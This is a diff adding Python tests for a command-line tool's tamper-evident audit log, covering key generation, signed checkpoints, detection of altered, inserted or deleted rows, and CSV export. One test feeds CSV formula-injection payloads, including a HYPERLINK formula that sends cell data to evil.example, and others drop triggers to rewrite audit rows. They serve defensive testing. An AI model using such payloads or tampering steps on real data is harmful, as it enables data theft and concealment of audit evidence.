@@ -17,7 +17,8 @@ import tms
 from conftest import ROOT, Location
 
 TMS = os.path.join(ROOT, "target", "release", "tms")
-COMMANDS = ["verify-audit", "adopt-unchained", "recover", "jobs", "audit", "backup", "copy", "stats", "migrate"]
+COMMANDS = ["init", "verify-audit", "adopt-unchained", "recover", "jobs", "audit", "backup", "copy", "stats", "migrate",
+            "keygen", "checkpoint"]
 
 
 def run(*args, cwd=None, env=None):
@@ -256,3 +257,219 @@ def test_adopt_unchained_on_a_keyed_log_needs_the_key_file(tmp_path):
     out = run("verify-audit", cwd=tmp_path, env={"TMS_AUDIT_HMAC_KEY_FILE": str(key)})
     assert out.returncode == 0 and json.loads(out.stdout)["ok"], out.stdout + out.stderr
     assert run("verify-audit", cwd=tmp_path).returncode == 1  # unverifiable without the key
+
+
+def seed_of(private_key_text):
+    """The secret part of a private key line (past PKCS#8's fixed header)."""
+    return private_key_text.strip().split("+", 4)[4][24:56]
+
+
+def test_keygen_writes_a_private_file_for_its_owner_only_and_never_overwrites(tmp_path):
+    out = run("keygen", "--out", str(tmp_path / "keys"), "--name", "audit.cli", cwd=tmp_path)
+    assert out.returncode == 0, out.stderr
+    private, public = tmp_path / "keys" / "tms-checkpoint.key", tmp_path / "keys" / "tms-checkpoint.pub"
+    assert os.stat(private).st_mode & 0o777 == 0o600 and os.stat(tmp_path / "keys").st_mode & 0o777 == 0o700
+    printed = json.loads(out.stdout)
+    assert printed["public_key"] + "\n" == public.read_text() and public.read_text().startswith("audit.cli+")
+    seed = seed_of(private.read_text())
+    assert seed not in out.stdout + out.stderr
+    before = (private.read_text(), public.read_text())
+    again = run("keygen", "--out", str(tmp_path / "keys"), cwd=tmp_path)
+    assert again.returncode == 2 and "refusing to overwrite" in again.stderr
+    assert (private.read_text(), public.read_text()) == before
+    os.remove(private)  # one of the two left: still refused, the other kept
+    assert run("keygen", "--out", str(tmp_path / "keys"), cwd=tmp_path).returncode == 2
+    assert not private.exists() and public.read_text() == before[1]
+    for name in ("has space", "a+b", ""):
+        assert run("keygen", "--out", str(tmp_path / "k2"), "--name", name, cwd=tmp_path).returncode == 2, name
+    out = run("keygen", "--out", str(tmp_path / "k3"), cwd=tmp_path)  # the default name: tms-audit.HOST
+    assert out.returncode == 0 and json.loads(out.stdout)["name"].startswith("tms-audit")
+
+
+def test_checkpoint_and_verify_audit_against_it_exit_1_on_every_attack(filled):
+    from test_checkpoints import read_log, rewrite
+
+    d, _, _ = filled
+    loc = Location(d, engine="sqlite")
+    assert run("keygen", "--out", "keys", "--name", "audit.cli", cwd=d).returncode == 0
+    assert run("keygen", "--out", "other", "--name", "audit.cli", cwd=d).returncode == 0
+    seed = seed_of((d / "keys" / "tms-checkpoint.key").read_text())
+    out = run("checkpoint", "--signing-key", "keys/tms-checkpoint.key", cwd=d)
+    assert out.returncode == 0 and out.stderr == "", out.stderr
+    assert out.stdout.startswith("audit.cli\n2\nsha256:") and "\n\n\u2014 audit.cli " in out.stdout
+    assert seed not in out.stdout
+    (d / "cp").write_text(out.stdout)
+
+    def verify(checkpoint="cp", public="keys/tms-checkpoint.pub"):
+        return run("verify-audit", "--checkpoint", checkpoint, "--public-key", public, cwd=d)
+
+    def problem():
+        out = verify()
+        report = json.loads(out.stdout)
+        assert out.returncode == (0 if report["ok"] else 1), out
+        return None if report["ok"] else (report["first_problem"]["problem"], report["first_problem"]["seq"])
+
+    first = verify()
+    assert first.returncode == 0, first.stderr
+    assert json.loads(first.stdout)["checkpoint"]["seq"] == 2
+    with tms.Store(str(d / "jobs.db"), str(d / "audit.db")) as s:  # the log grows: still ok
+        s.record_audit("carol", "T-Enable", ["c4"])
+        s.record_audit("dave", "T-Enable", ["c5"])
+    assert problem() is None
+    original = read_log(loc)
+
+    changed = [list(r) for r in original]
+    changed[0][0] = "mallory"
+    rewrite(loc, changed)  # a row changed and the whole chain recomputed
+    assert run("verify-audit", cwd=d).returncode == 0
+    assert problem() == ("altered", 2)
+    out = run("checkpoint", "--signing-key", "keys/tms-checkpoint.key", "--previous", "cp", cwd=d)
+    assert out.returncode == 1 and out.stdout == "" and "TMS_STATUS_AUDIT_CHAIN_BROKEN" in out.stderr, out.stderr
+    inserted = [original[0], ["ghost", *original[0][1:]], *original[1:]]
+    rewrite(loc, inserted)  # a row inserted before the checkpoint
+    assert problem() == ("altered", 2)
+    rewrite(loc, original)
+    assert problem() is None
+    out = run("checkpoint", "--signing-key", "keys/tms-checkpoint.key", "--previous", "cp", cwd=d)
+    assert out.returncode == 0 and out.stdout.startswith("audit.cli\n4\n"), out.stderr
+    out = run("checkpoint", "--signing-key", "other/tms-checkpoint.key", "--previous", "cp", cwd=d)
+    assert out.returncode == 1 and "TMS_STATUS_CHECKPOINT_INVALID" in out.stderr  # not this key's
+
+    # A checkpoint that does not verify: forged, another key, malformed.
+    (d / "forged").write_text((d / "cp").read_text().replace("\n2\n", "\n3\n", 1))
+    (d / "garbage").write_text("audit.cli\n2\n")
+    for args in (("forged", "keys/tms-checkpoint.pub"), ("cp", "other/tms-checkpoint.pub"), ("garbage", "keys/tms-checkpoint.pub")):
+        out = verify(*args)
+        assert out.returncode == 1 and out.stderr.startswith("tms: TMS_STATUS_CHECKPOINT_INVALID:"), (args, out.stderr)
+    # Usage errors: exit 2.
+    assert verify("missing").returncode == 2
+    assert verify("cp", "keys/tms-checkpoint.key").returncode == 2  # a private key where the public belongs
+    assert run("verify-audit", "--checkpoint", "cp", cwd=d).returncode == 2
+    assert run("checkpoint", "--signing-key", "keys/tms-checkpoint.pub", cwd=d).returncode == 2
+    assert run("checkpoint", "--signing-key", "missing", cwd=d).returncode == 2
+
+    # Rows cut back past the checkpoint.
+    con = sqlite3.connect(d / "audit.db")
+    con.executescript("DROP TRIGGER IF EXISTS audit_log_no_delete; DELETE FROM audit_log WHERE chain_seq >= 2")
+    con.close()
+    assert problem() == ("cut", 2)
+    # A log that does not verify is not signed: exit 1, nothing on stdout.
+    con = sqlite3.connect(d / "audit.db")
+    con.executescript("DROP TRIGGER IF EXISTS audit_log_no_update; UPDATE audit_log SET status = 'failure' WHERE chain_seq = 1")
+    con.close()
+    out = run("checkpoint", "--signing-key", "keys/tms-checkpoint.key", cwd=d)
+    assert out.returncode == 1 and out.stdout == "" and "TMS_STATUS_AUDIT_CHAIN_BROKEN" in out.stderr
+    assert seed not in out.stderr
+
+
+def test_checkpoint_of_a_keyed_log_and_a_rewrite_with_or_without_the_key(tmp_path):
+    from test_checkpoints import read_log, rewrite
+
+    key = "cli-checkpoint-hmac-0123456789"
+    (tmp_path / "hmac").write_text(key + "\n")
+    with tms.Store(str(tmp_path / "jobs.db"), str(tmp_path / "audit.db"), audit_hmac_key=key) as s:
+        for user in ("alice", "bob", "carol"):
+            s.record_audit(user, "Trans-Begin", ["c1"])
+    assert run("keygen", "--out", "keys", "--name", "audit.keyed", cwd=tmp_path).returncode == 0
+    out = run("checkpoint", "--signing-key", "keys/tms-checkpoint.key", cwd=tmp_path)
+    assert out.returncode == 2 and "TMS_STATUS_AUDIT_KEY_MISMATCH" in out.stderr
+    out = run("--hmac-key-file", "hmac", "checkpoint", "--signing-key", "keys/tms-checkpoint.key", cwd=tmp_path)
+    assert out.returncode == 0 and "\nhmac-sha256:" in out.stdout, out.stderr
+    (tmp_path / "cp").write_text(out.stdout)
+    verify = ("--hmac-key-file", "hmac", "verify-audit", "--checkpoint", "cp", "--public-key", "keys/tms-checkpoint.pub")
+    assert run(*verify, cwd=tmp_path).returncode == 0
+    loc = Location(tmp_path, engine="sqlite")
+    changed = [list(r) for r in read_log(loc)]
+    changed[1][5] = "failure"
+    rewrite(loc, changed, key)  # with the stolen key
+    assert run("--hmac-key-file", "hmac", "verify-audit", cwd=tmp_path).returncode == 0
+    out = run(*verify, cwd=tmp_path)
+    assert out.returncode == 1 and json.loads(out.stdout)["first_problem"]["problem"] == "altered"
+    rewrite(loc, changed)  # a key-less chain swapped in: with the key it holds no keyed row at all
+    out = run(*verify, cwd=tmp_path)
+    assert out.returncode == 1 and json.loads(out.stdout)["first_problem"]["problem"] == "not_keyed"
+
+
+def test_audit_csv_neutralises_formulas_and_jsonl_stays_exact(tmp_path):
+    # A cluster's message lands in error_message: as CSV it must not be a live formula.
+    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-3+4", "@SUM(A1)", "\tx", "\rx"]
+    with tms.Store(str(tmp_path / "jobs.db"), str(tmp_path / "audit.db")) as s:
+        for i, message in enumerate(hostile):
+            s.record_audit("=user" if i == 0 else "bob", "PE-Enable", "c1", status="failure", error_message=message)
+        s.record_audit("carol", "PE-Enable", "c1", status="failure", error_message="plain, a=1 -fine")
+    # Bytes: text mode would turn the message's carriage return into a newline.
+    out = subprocess.run([TMS, "audit", "--format", "csv", "--limit", "100"], cwd=tmp_path, capture_output=True, timeout=120)
+    assert out.returncode == 0, out.stderr
+    rows = list(reversed(list(csv.DictReader(io.StringIO(out.stdout.decode(), newline="")))))
+    assert [r["error_message"] for r in rows] == ["'" + m for m in hostile] + ["plain, a=1 -fine"]
+    assert rows[0]["user_id"] == "'=user" and rows[1]["user_id"] == "bob"
+    jsonl = [json.loads(line) for line in run("audit", "--limit", "100", cwd=tmp_path).stdout.splitlines()]
+    assert [r["error_message"] for r in reversed(jsonl)] == hostile + ["plain, a=1 -fine"]
+    assert jsonl[-1]["user_id"] == "=user"
+    help_text = run("audit", "--help").stdout
+    assert "formula" in help_text and "'" in help_text
+
+
+READING = [["verify-audit"], ["adopt-unchained", "--reason", "r"], ["recover"], ["jobs", "--user", "u"], ["audit"],
+           ["backup", "bk"], ["copy", "--to", "dst/jobs.db"], ["stats"], ["migrate"]]
+
+
+@pytest.mark.parametrize("command", READING, ids=lambda c: c[0])
+def test_no_command_but_init_creates_a_store_at_a_mistyped_path(tmp_path, command):
+    (tmp_path / "dst").mkdir()
+    for missing in ["jobs", "audit"]:
+        d = tmp_path / missing
+        d.mkdir()
+        if missing == "audit":  # only audit.db is mistyped: jobs.db exists
+            tms.Store(str(d / "jobs.db"), str(d / "real-audit.db")).close()
+        before = sorted(p.name for p in d.iterdir())
+        out = run("--jobs-db", str(d / "jobs.db"), "--audit-db", str(d / "audit.db"), *command, cwd=d)
+        assert out.returncode == 2, (command, out.stdout, out.stderr)
+        assert out.stderr.startswith("tms: TMS_STATUS_CANT_OPEN:") and f"{d / (missing + '.db')}" in out.stderr, out.stderr
+        assert out.stdout == ""
+        assert sorted(p.name for p in d.iterdir()) == before, command  # nothing created
+    assert not any((tmp_path / "dst").iterdir())
+
+
+def test_init_creates_a_store_and_copy_creates_its_destination(tmp_path):
+    out = run("init", cwd=tmp_path)
+    assert out.returncode == 0, out.stderr
+    assert json.loads(out.stdout) == {"initialized": True, "created": ["jobs.db", "audit.db"]}
+    assert json.loads(run("verify-audit", cwd=tmp_path).stdout)["checked"] == 0
+    with tms.Store(str(tmp_path / "jobs.db"), str(tmp_path / "audit.db")) as s:
+        s.record_audit("alice", "Trans-Begin")
+    again = run("init", cwd=tmp_path)  # an existing store is kept as it is
+    assert again.returncode == 0 and json.loads(again.stdout)["created"] == []
+    assert json.loads(run("stats", cwd=tmp_path).stdout)["audit_rows"] == 1
+    (tmp_path / "new").mkdir()
+    out = run("copy", "--to", str(tmp_path / "new" / "jobs.db"), cwd=tmp_path)
+    assert out.returncode == 0, out.stderr
+    assert sorted(p.name for p in (tmp_path / "new").iterdir() if p.suffix == ".db") == ["audit.db", "jobs.db"]
+
+
+def test_a_postgres_schema_without_a_store_is_refused_until_init(tmp_path):
+    pg = Location(tmp_path, engine="postgres")
+    try:
+        out = run("--jobs-db", pg.jobs, "stats")
+        assert out.returncode == 2 and "TMS_STATUS_CANT_OPEN" in out.stderr and "tms init" in out.stderr, out.stderr
+        assert "holds no store" in out.stderr
+        out = run("--jobs-db", pg.jobs, "init")
+        assert out.returncode == 0 and json.loads(out.stdout) == {"initialized": True, "created": []}, out.stderr
+        assert json.loads(run("--jobs-db", pg.jobs, "verify-audit").stdout)["ok"]
+    finally:
+        pg.drop()
+
+
+def test_a_keyed_log_swapped_for_a_keyless_forgery_fails_with_the_key(tmp_path):
+    key = "cli-hmac-key-0123456789"
+    (tmp_path / "key").write_text(key + "\n")
+    with tms.Store(str(tmp_path / "jobs.db"), str(tmp_path / "audit.db"), audit_hmac_key=key) as s:
+        s.record_audit("alice", "Trans-Begin")
+    # Someone with the files but not the key rewrites audit.db whole: a fresh plain chain.
+    os.remove(tmp_path / "audit.db")
+    with tms.Store(str(tmp_path / "jobs.db"), str(tmp_path / "audit.db")) as forger:
+        forger.record_audit("alice", "Trans-Begin")
+    assert run("verify-audit", cwd=tmp_path).returncode == 0  # without the key nothing shows
+    out = run("--hmac-key-file", str(tmp_path / "key"), "verify-audit", cwd=tmp_path)
+    assert out.returncode == 1, out.stdout
+    assert json.loads(out.stdout)["first_problem"]["problem"] == "not_keyed"
